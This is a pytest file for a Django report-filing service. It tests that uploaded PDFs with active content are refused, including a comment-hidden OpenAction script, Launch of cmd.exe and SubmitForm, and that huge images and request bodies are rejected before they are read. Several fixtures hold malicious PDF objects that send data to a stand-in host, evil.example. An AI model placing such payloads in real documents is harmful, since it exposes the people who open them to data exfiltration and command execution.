"""Hostile evidence and oversized requests.

Before: a PDF whose /OpenAction JavaScript sat between "%stream" / "%endstream" comment lines passed
the filter and was stored with its script; four 6300x6300 PNGs and one bad file kept a worker busy
decoding for ~10 s before the 400, and such refused filings did not count toward the hourly limit;
a 200 MB multipart body was read in full before it was refused.
"""

from __future__ import annotations

import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import ImageFile

from audit.models import AuditEvent
from config.middleware import RequestBodyLimitMiddleware
from reports.models import Evidence, Report
from reports.services import RateLimitExceeded, report_file
from reports.uploads import clean_upload, clean_uploads
from tests.conftest import png_bytes
from tests.factories import TargetFactory, UserFactory
from tests.test_uploads import pdf, png_header_only

pytestmark = pytest.mark.django_db

SCRIPT = b"<< /S /JavaScript /JS (app.launchURL('https://evil.example/'+this.info.Title)) >>"


def comment_hidden_script() -> bytes:
    """The issue's file: the script object framed by comment lines a text filter took for stream data."""
    document = pdf(b"<< /Type /Catalog /OpenAction 2 0 R >>", SCRIPT)
    document = document.replace(b"2 0 obj\n", b"%stream\n2 0 obj\n", 1)
    return document.replace(b"endobj\n3 0 obj", b"endobj\n%endstream\n3 0 obj", 1)


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, "application/octet-stream")


@pytest.mark.parametrize(
    "document",
    [
        comment_hidden_script(),
        pdf(b"<< /Type /Catalog /AA << /WC << /S /JavaScript /JS (x) >> >> >>"),  # on closing
        pdf(b"<< /Type /Catalog /Names << /JavaScript << /Names [(a) 2 0 R] >> >> >>", SCRIPT),
        pdf(b"<< /Type /Catalog /OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> >>"),
        pdf(b"<< /Type /Catalog /OpenAction << /S /SubmitForm /F (https://evil.example/) >> >>"),
        pdf(b"<< /Type /Catalog >>", b"<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream"),
        pdf(b"<< /Type /Catalog /AcroForm << /Fields [] /XFA 2 0 R >> >>", b"<< /Length 0 >>\nstream\n\nendstream"),
        pdf(b"<< /Type /Catalog >>", SCRIPT),  # an orphan: nothing points to it, still refused
    ],
    ids=[
        "comments-frame-script",
        "aa-on-close",
        "javascript-name-tree",
        "launch",
        "submit-form",
        "embedded-file",
        "xfa",
        "orphan-script",
    ],
)
def test_a_pdf_with_active_content_is_refused_whatever_the_comments_say(document):
    with pytest.raises(ValidationError, match="PDF with scripts or embedded files"):
        clean_upload(upload("invoice.pdf", document))


def test_the_comment_framed_script_is_not_stored_through_the_form(client):
    reporter = UserFactory()
    client.force_login(reporter)
    target = TargetFactory()
    response = client.post(
        reverse("reports:new") + f"?target={target.public_id}",
        {
            "category": "spam",
            "reason": "see file",
            "good_faith": "on",
            "evidence": [upload("a.pdf", comment_hidden_script())],
        },
    )
    assert response.status_code == 400 and "PDF with scripts" in response.content.decode()
    assert not Report.objects.exists() and not Evidence.objects.exists() and not AuditEvent.objects.exists()


def test_a_plain_pdf_still_goes_through():
    assert clean_upload(upload("letter.pdf", pdf(b"<< /Type /Catalog /OpenAction [3 0 R /Fit] >>"))).size > 0


@pytest.fixture
def decodes(monkeypatch) -> list[int]:
    """Counts images Pillow actually decodes (its load), the work a refusal must come before."""
    calls: list[int] = []
    load = ImageFile.ImageFile.load

    def counting_load(self):
        calls.append(1)
        return load(self)

    monkeypatch.setattr(ImageFile.ImageFile, "load", counting_load)
    return calls


def test_big_images_with_one_bad_file_are_refused_before_any_is_decoded(decodes):
    files = [upload(f"big{n}.png", png_header_only(6300, 6300)) for n in range(4)]
    files.append(upload("bad.png", b"not an image at all"))
    with pytest.raises(ValidationError) as caught:
        clean_uploads(files)
    assert any("bad.png" in message for message in caught.value.messages)
    assert decodes == []


def test_images_over_the_request_pixel_budget_are_refused_before_any_is_decoded(decodes, settings):
    files = [upload(f"big{n}.png", png_header_only(6300, 6300)) for n in range(2)]  # 79 million pixels
    with pytest.raises(ValidationError, match="79.4 million pixels together; one request may carry 50 million"):
        clean_uploads(files)
    assert decodes == []
    assert settings.EVIDENCE_MAX_PIXELS_PER_REQUEST == 50_000_000
    assert len(clean_uploads([upload("small.png", png_bytes())])) == 1 and decodes


def test_refused_filings_count_toward_the_hourly_limit(settings):
    settings.REPORTS_PER_HOUR_LIMIT = 3
    reporter, target = UserFactory(), TargetFactory()
    for _ in range(3):
        with pytest.raises(ValidationError, match="bad.png"):
            report_file(actor=reporter, target=target, category="spam", reason="x", evidence=[upload("bad.png", b"no")])
    with pytest.raises(RateLimitExceeded, match="3 reports in the last hour"):
        report_file(actor=reporter, target=TargetFactory(), category="spam", reason="a good one")
    assert not Report.objects.exists()
    assert report_file(actor=UserFactory(), target=target, category="spam", reason="someone else").pk


# --- the whole body ----------------------------------------------------------------------------------

HUGE = 200 * 1024 * 1024


def test_a_200_mb_body_is_refused_from_its_content_length_before_it_is_read(client):
    client.force_login(UserFactory())
    # The test client's input holds one byte and fails any read past it: a 413 means nothing was read.
    for url, content_type in (
        (reverse("reports:new") + f"?target={TargetFactory().public_id}", "multipart/form-data; boundary=x"),
        (reverse("reports:complaint"), "application/x-www-form-urlencoded"),
    ):
        response = client.generic("POST", url, b"x", content_type=content_type, CONTENT_LENGTH=str(HUGE))
        assert response.status_code == 413
        assert "The request is larger than" in response.content.decode() and "<html" in response.content.decode()
    api = client.generic("POST", "/api/reports", b"x", content_type="application/json", CONTENT_LENGTH=str(HUGE))
    assert api.status_code == 413 and api.json()["detail"].startswith("The request is larger than 16.0 MB")


class ChunkedBody:
    """A chunked upload as gunicorn hands it over (no Content-Length, read until it ends)."""

    def __init__(self, size: int) -> None:
        self.left, self.read_bytes = size, 0

    def readline(self, size: int = -1) -> bytes:
        return self.read(size)

    def read(self, size: int = -1) -> bytes:
        size = self.left if size is None or size < 0 else min(size, self.left)
        self.left -= size
        self.read_bytes += size
        return b"x" * size


def test_a_chunked_body_is_refused_while_it_is_read(client, settings):
    body = ChunkedBody(HUGE)
    chunked = {
        "CONTENT_LENGTH": "",
        "HTTP_TRANSFER_ENCODING": "chunked",
        "wsgi.input_terminated": True,
        "wsgi.input": body,
    }
    response = client.generic(
        "POST", reverse("reports:complaint"), b"", content_type="application/x-www-form-urlencoded", **chunked
    )
    assert response.status_code == 413
    assert body.read_bytes <= settings.DATA_UPLOAD_MAX_MEMORY_SIZE + RequestBodyLimitMiddleware.CHUNK


def test_a_chunked_body_under_the_cap_reaches_the_form(client):
    form = b"username=rosa&password=wrong"
    stream = io.BytesIO(form)
    chunked = {
        "CONTENT_LENGTH": "",
        "CONTENT_TYPE": "application/x-www-form-urlencoded",  # (the test client sets it only with data)
        "HTTP_TRANSFER_ENCODING": "chunked",
        "wsgi.input_terminated": True,
        "wsgi.input": stream,
    }
    response = client.generic(
        "POST", reverse("login"), b"", content_type="application/x-www-form-urlencoded", **chunked
    )
    assert response.status_code == 200 and "Please enter a correct username and password" in response.content.decode()


def test_a_chunked_body_the_server_cannot_delimit_is_refused(client):
    chunked = {
        "CONTENT_LENGTH": "",
        "HTTP_TRANSFER_ENCODING": "chunked",
        "wsgi.input": io.BytesIO(b"3\r\nabc\r\n0\r\n\r\n"),
    }
    response = client.generic(
        "POST", reverse("login"), b"", content_type="application/x-www-form-urlencoded", **chunked
    )
    assert response.status_code == 411
